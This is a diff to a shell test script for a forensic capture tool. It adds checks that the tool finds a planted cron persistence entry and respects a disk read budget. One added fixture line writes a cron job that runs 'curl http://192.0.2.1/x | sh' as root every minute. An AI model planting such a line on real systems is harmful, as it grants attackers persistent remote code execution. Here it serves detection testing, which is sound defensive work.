@@ -17,7 +17,7 @@ PATH=$PATH:/usr/sbin:/sbin
 [ $# -eq 2 ] || die "usage: systemd.sh KERNEL PROGRAMS"
 kernel=$1 programs=$2
 guest_kernel "$kernel"
-checks=25
+checks=29
 
 tmp=$(mktemp -d "${TMPDIR:-/tmp}/icecore-systemd.XXXXXX")
 trap 'rm -rf "$tmp"' EXIT
@@ -179,6 +179,21 @@ cat /var/lib/icecore/tried
 check "the unit may none of it" all_refused /var/lib/icecore/tried
 rm /var/lib/icecore/tried /run/systemd/system/try.service
 
+# The disk of a host that runs, within a budget.
+echo '* * * * * root curl http://192.0.2.1/x | sh' >/etc/cron.d/planted
+disk() {
+	name=$1
+	shift
+	icecore capture --case live --to /out --name "$name" --cloud none \
+		-r "$RECIPIENT" --collect disk "$@" 2>/tmp/err
+	status=$?
+	sed 's/^/# /' /tmp/err
+	[ $status -eq 0 ] || [ $status -eq 3 ]
+}
+check "the host's own disk is looked at" disk all
+check "and no more of it than is said" disk little --disk-max 1MiB
+rm /etc/cron.d/planted
+
 before=$(main_pid)
 dpkg -i /debs/9.9.9.deb >/dev/null
 goes_on() {
@@ -195,9 +210,18 @@ exit $failed
 SCRIPT
 
 out=$tmp/out
+# has CAPTURE KIND PATTERN: a record of it fits.
+has() {
+	if "$programs/icelab" show "$out/$1" -i "$tmp/key" --kind "$2" \
+		--format jsonl 2>/dev/null | grep -q -- "$3"; then
+		echo "ok - $1 has a $2 that says $3"
+	else
+		echo "not ok - $1 has no $2 that says $3"
+	fi
+}
 {
 	"$guest_dir/boot.sh" --kernel "$kernel" --timeout 150 --memory 768 \
-		--systemd "$image" --out "$out" --env OPENSSL_ia32cap=0 \
+		--systemd "$image" --out "$out" --env OPENSSL_ia32cap=0 --env "RECIPIENT=$recipient" \
 		--out-size 512 --script "$tmp/script" \
 		--add "$tmp/debs:/debs" --add "$tmp/icecore.conf:/icecore.conf" \
 		--add "$(guest_build forbidden):/forbidden" ||
@@ -211,4 +235,6 @@ out=$tmp/out
 	else
 		echo "not ok - verify: status $status"
 	fi
+	has live/guest/all finding '"persistence.cron".*"/etc/cron.d/planted"'
+	has live/guest/little gap 'more bytes than may be read'
 } | guest_judge "$checks"
